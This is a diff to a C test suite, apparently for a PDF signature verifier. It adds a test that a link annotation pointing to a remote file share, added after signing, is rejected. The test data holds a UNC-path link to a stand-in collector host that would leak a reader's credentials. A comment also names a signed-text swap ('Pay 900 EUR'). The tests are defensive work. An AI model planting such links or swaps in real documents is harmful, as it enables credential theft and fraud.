@@ -428,6 +428,23 @@ START_TEST(p3_link_to_a_web_address_added_stays_valid)
 }
 END_TEST
 
+/* A link that opens a remote share (a UNC path: no web or mail address) added under P=3
+   hands the reader's credentials to whoever holds the share: not an allowed comment. */
+START_TEST(p3_link_to_a_file_share_added_is_not_valid)
+{
+	size_t nd;
+	enum crypto_verdict v = tagged_added(3,
+					     "<< /Type /Annot /Subtype /Link /Rect [10 40 30 60] "
+					     "/StructParent 2 /P 3 0 R /A << /S /URI /URI "
+					     "(\\\\\\\\collector.example\\\\share\\\\x.png) >> >>",
+					     NULL, NULL, NULL, &nd);
+
+	ck_assert_msg(v == CRYPTO_VERDICT_INVALID && nd > 0,
+		      "a link to a file share added: verdict %s, %zu disallowed changes",
+		      crypto_verdict_name(v), nd);
+}
+END_TEST
+
 /*
  * What tags may not do in that update: an old element's text for readers
  * and copying changed (/ActualText, "Pay 900 EUR"); the new element claiming
@@ -583,6 +600,7 @@ verify_shadow_p3_add(TCase *tc)
 	tcase_add_test(tc, p3_tagged_comment_added_stays_valid);
 	tcase_add_loop_test(tc, actions_added_after_signing_are_not_valid, 0, 8);
 	tcase_add_test(tc, p3_link_to_a_web_address_added_stays_valid);
+	tcase_add_test(tc, p3_link_to_a_file_share_added_is_not_valid);
 	tcase_add_test(tc, approval_signature_field_under_a_parent_with_a_script_is_not_valid);
 	tcase_add_test(tc, approval_signature_widget_with_a_script_in_an_array_is_not_valid);
 	tcase_add_test(tc, approval_tagged_signature_field_added_stays_valid);
